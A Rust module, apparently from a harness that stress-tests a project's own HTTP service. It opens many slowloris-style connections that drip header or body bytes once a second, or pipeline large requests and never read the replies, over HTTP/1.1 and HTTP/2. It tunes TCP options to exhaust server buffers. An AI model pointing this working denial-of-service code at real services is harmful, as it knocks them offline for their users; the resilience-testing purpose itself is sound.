//! Connections that are slow: each sends a byte of a header or of a body a second, or takes nothing of
//! its answers. When one is closed, another is opened at once.

use std::net::SocketAddr;
use std::os::fd::AsFd;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use nix::sys::socket::{setsockopt, sockopt};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::task::JoinSet;
use tokio_util::sync::CancellationToken;

use super::attacker::{Did, Place};
use super::http2::{self, DATA, END_HEADERS, END_STREAM, HEADERS, Method, PREFACE, SETTINGS};

const BETWEEN_BYTES: Duration = Duration::from_secs(1);
/// Pause after a connection that the kernel refused.
const REFUSED_PAUSE: Duration = Duration::from_millis(50);
/// Segments as on a real network. On loopback they are 64 KiB, and the kernel would take megabytes
/// of answers for each connection.
const SEGMENT_BYTES: u32 = 1460;
/// What the attacker's own kernel takes of an answer.
const RECEIVE_BYTES: u32 = 4096;
/// Largest document that needs no key.
const LARGE: &str = "/openapi.json";
/// Requests for it on one connection.
const LARGE_REQUESTS: u32 = 64;
/// Bytes that a header or a body promises.
const PROMISED: usize = 1000;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    Header,
    Body,
    ReadsNothing,
}

/// What a connection sends.
struct Script {
    start: Vec<u8>,
    /// Every second.
    drip: Vec<u8>,
    reads: bool,
}

impl Script {
    fn new(kind: Kind, http2: bool, path: &str, key: &str) -> Self {
        let (start, drip) = match (http2, kind) {
            (false, Kind::Header) => (format!("POST {path} HTTP/1.1\r\nhost: x\r\nx-slow: ").into(), b"x".to_vec()),
            (false, Kind::Body) => (
                format!(
                    "POST {path} HTTP/1.1\r\nhost: x\r\nauthorization: Bearer {key}\r\ncontent-type: application/json\r\n\
                     content-length: {PROMISED}\r\n\r\n"
                )
                .into(),
                b" ".to_vec(),
            ),
            (false, Kind::ReadsNothing) => (
                format!("GET {LARGE} HTTP/1.1\r\nhost: x\r\n\r\n")
                    .repeat(LARGE_REQUESTS as usize)
                    .into(),
                b"G".to_vec(),
            ),
            (true, kind) => {
                // An answer's body may have no byte.
                let no_window = http2::frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]);
                let start = [PREFACE, &no_window].concat();
                match kind {
                    Kind::Header => {
                        let head = http2::frame_head(PROMISED, HEADERS, END_STREAM | END_HEADERS, 1);
                        ([&start[..], &head].concat(), vec![0])
                    }
                    Kind::Body => {
                        let fields = http2::fields(Method::Post, path, Some(key));
                        let head = http2::frame(HEADERS, END_HEADERS, 1, &fields);
                        ([&start[..], &head].concat(), http2::frame(DATA, 0, 1, b" "))
                    }
                    Kind::ReadsNothing => {
                        let requests = (0..LARGE_REQUESTS).flat_map(|index| {
                            let fields = http2::fields(Method::Get, LARGE, None);
                            http2::frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * index, &fields)
                        });
                        let requests: Vec<u8> = requests.collect();
                        // A frame of a kind that everybody ignores.
                        ([start, requests].concat(), http2::frame(0xff, 0, 0, b""))
                    }
                }
            }
        };
        Self {
            start,
            drip,
            reads: kind != Kind::ReadsNothing,
        }
    }

    /// One connection, until it is closed.
    async fn connection(&self, mut stream: TcpStream) -> std::io::Result<()> {
        stream.write_all(&self.start).await?;
        let (mut read, mut write) = stream.split();
        let dripping = async {
            loop {
                tokio::time::sleep(BETWEEN_BYTES).await;
                write.write_all(&self.drip).await?;
            }
        };
        let closed = async {
            let mut bytes = [0; 4096];
            // Without reading, a closed connection is only noticed by writing.
            while !self.reads || read.read(&mut bytes).await? > 0 {
                if !self.reads {
                    std::future::pending::<()>().await;
                }
            }
            std::io::Result::Ok(())
        };
        tokio::select! {
            dripped = dripping => dripped,
            closed = closed => closed,
        }
    }
}

async fn connect(address: SocketAddr) -> std::io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    setsockopt(&socket.as_fd(), sockopt::TcpMaxSeg, &SEGMENT_BYTES)?;
    socket.set_recv_buffer_size(RECEIVE_BYTES)?;
    socket.connect(address).await
}

pub async fn run(kind: Kind, http2: bool, place: Place, stop: CancellationToken) -> Did {
    let [opened, closed] = [(), ()].map(|()| Arc::new(AtomicU64::new(0)));
    let mut connections = JoinSet::new();
    for index in 0..place.connections {
        let key = &place.keys[index % place.keys.len()];
        let listeners = [(place.ingest, "/v1/events:batch"), (place.serve, "/v1/completions")];
        for (address, path) in listeners {
            let script = Script::new(kind, http2, path, key);
            let (opened, closed) = (opened.clone(), closed.clone());
            connections.spawn(async move {
                loop {
                    let Ok(stream) = connect(address).await else {
                        tokio::time::sleep(REFUSED_PAUSE).await;
                        continue;
                    };
                    opened.fetch_add(1, Ordering::Relaxed);
                    let _ = script.connection(stream).await;
                    closed.fetch_add(1, Ordering::Relaxed);
                }
            });
        }
    }
    stop.cancelled().await;
    let [opened, closed] = [opened, closed].map(|count| count.load(Ordering::Relaxed));
    connections.shutdown().await;
    Did {
        text: format!(
            "{} connections to each of two listeners; {opened} opened, {closed} closed by the server",
            place.connections
        ),
        ..Did::default()
    }
}
